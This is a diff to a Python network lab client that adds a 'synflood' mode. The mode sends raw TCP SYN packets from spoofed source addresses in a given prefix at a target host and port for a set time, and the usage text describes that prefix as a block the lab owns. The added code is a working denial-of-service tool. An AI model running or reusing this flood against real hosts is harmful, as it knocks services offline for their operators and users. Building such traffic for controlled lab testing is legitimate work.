@@ -15,6 +15,9 @@
                                        a datagram every 50 ms on one 5-tuple; prints each answer's
                                        backend and "udpstream: N sent, M answered"
   lab-client.py hold HOST PORT SECONDS one idle TCP connection held open
+  lab-client.py synflood HOST PORT SECONDS A.B
+                                       TCP SYNs from spoofed sources A.B.x.y (a block the lab owns)
+                                       for SECONDS; prints "synflood: N sent" (raw socket, root)
   lab-client.py ping HOST 0 COUNT      ICMP echo (raw socket, root), one a second at most;
                                        succeeds at the first answer
 
@@ -27,6 +30,7 @@ import time
 
 
 def icmp_checksum(data):
+    """The Internet checksum (ICMP, and TCP with its pseudo-header)."""
     if len(data) % 2:
         data += b"\0"
     total = sum(struct.unpack(f"!{len(data) // 2}H", data))
@@ -124,6 +128,28 @@ elif mode == "udpstream":
         time.sleep(0.05)
     print(f"udpstream: {sent} sent, {answered} answered")
     failed = 0 if sent == answered else 1
+elif mode == "synflood":
+    seconds, prefix = float(sys.argv[4]), [int(x) for x in sys.argv[5].split(".")]
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    dst = socket.inet_aton(host)
+    sent, n = 0, 0
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        for _ in range(256):
+            n += 1
+            src = bytes(prefix + [(n >> 8) & 0xFF, n & 0xFF])
+            sport = 1024 + n % 60000
+            tcp = struct.pack("!HHIIBBHHH", sport, port, n, 0, 5 << 4, 0x02, 64240, 0, 0)
+            check = icmp_checksum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
+            tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
+            # The kernel fills in the IP checksum (and ID) of an IP_HDRINCL packet.
+            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, src, dst)
+            try:
+                s.sendto(ip + tcp, (host, 0))
+                sent += 1
+            except OSError:
+                pass
+    print(f"synflood: {sent} sent")
 elif mode == "hold":
     with socket.create_connection((host, port), timeout=5):
         time.sleep(float(sys.argv[4]))
